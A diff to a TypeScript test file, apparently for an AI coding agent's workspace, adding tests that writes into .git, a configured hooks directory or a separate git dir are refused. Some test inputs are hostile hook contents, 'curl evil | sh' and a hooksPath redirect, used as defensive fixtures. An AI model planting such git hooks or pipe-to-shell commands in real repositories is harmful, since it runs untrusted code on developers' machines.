@@ -27,7 +27,7 @@ test('nothing is written into .git, whatever the spelling or a symlink', async (
   await refused(ws.writeFile('.git/hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n'), /inside \.git/);
   await refused(ws.writeFile('./.GIT/hooks/pre-commit', 'x'), /inside \.git/);
   await refused(ws.writeFile('hooks/pre-commit', 'x'), /inside \.git/);
-  await refused(ws.writeFile('.git/config', '[core]\n\thooksPath = evil\n'), /run_command/);
+  await refused(ws.writeFile('.git/config', '[core]\n\thooksPath = evil\n'), /with the run tool/);
   assert.ok(!existsSync(join(root, '.git', 'hooks', 'pre-commit')));
   assert.equal(readFileSync(join(root, '.git', 'config'), 'utf8'), '[core]\n');
 });
@@ -55,4 +55,72 @@ test('ordinary files with similar names stay writable, and the Store still write
   const store = new NodeStore(ws);
   await store.set('plan', { steps: 1 });
   assert.deepEqual(await store.get('plan'), { steps: 1 });
+});
+
+// Git's folders where they really are: `core.hooksPath` inside the workspace, a git dir that is not `.git`.
+import { execFileSync } from 'node:child_process';
+
+function repo(setup: (dir: string) => void): { dir: string; ws: NodeWorkspace } {
+  const dir = mkdtempSync(join(tmpdir(), 'smallcode-hooks-'));
+  setup(dir);
+  return { dir, ws: new NodeWorkspace(dir) };
+}
+const git = (dir: string, ...args: string[]) => execFileSync('git', args, { cwd: dir, stdio: 'ignore' });
+
+test('a core.hooksPath inside the workspace is protected like .git', async () => {
+  const { dir, ws: w } = repo((d) => {
+    git(d, 'init', '-q');
+    git(d, 'config', 'core.hooksPath', 'tools/githooks');
+  });
+  try {
+    await refused(w.writeFile('tools/githooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n'), /tools\/githooks, which Git uses/);
+    await refused(w.writeFile('./Tools/GitHooks/post-checkout', 'x'), /which Git uses/);
+    assert.equal(await w.writeRefusal('tools/githooks/pre-push') !== undefined, true, 'asked before review');
+    assert.equal((await w.writeFile('tools/build.sh', 'ok\n')).path, 'tools/build.sh');
+    assert.equal(await w.writeRefusal('tools/build.sh'), undefined);
+    assert.ok(!existsSync(join(dir, 'tools', 'githooks')));
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+test('hooks at the root (core.hooksPath = .) are refused by name, other root files are not', async () => {
+  const { dir, ws: w } = repo((d) => {
+    git(d, 'init', '-q');
+    git(d, 'config', 'core.hooksPath', '.');
+  });
+  try {
+    await refused(w.writeFile('pre-commit', 'x'), /Git's hooks/);
+    assert.equal((await w.writeFile('pre-commit.md', 'ok\n')).path, 'pre-commit.md');
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+test('a separate git dir inside the workspace (.git is a file) is protected, hooks and config', async () => {
+  const { dir, ws: w } = repo((d) => {
+    git(d, 'init', '-q', '--separate-git-dir', join(d, '.repo'));
+  });
+  try {
+    assert.ok(readFileSync(join(dir, '.git'), 'utf8').startsWith('gitdir:'));
+    await refused(w.writeFile('.repo/hooks/pre-commit', 'x'), /\.repo, which Git uses/);
+    await refused(w.writeFile('.repo/config', '[core]\n\thooksPath = x\n'), /\.repo, which Git uses/);
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+test('without git on the PATH the repository config is read instead', async () => {
+  const { dir, ws: w } = repo((d) => {
+    git(d, 'init', '-q');
+    git(d, 'config', 'core.hooksPath', '.githooks');
+  });
+  const path = process.env.PATH;
+  process.env.PATH = '';
+  try {
+    await refused(w.writeFile('.githooks/pre-commit', 'x'), /\.githooks, which Git uses/);
+  } finally {
+    process.env.PATH = path;
+    rmSync(dir, { recursive: true, force: true });
+  }
 });
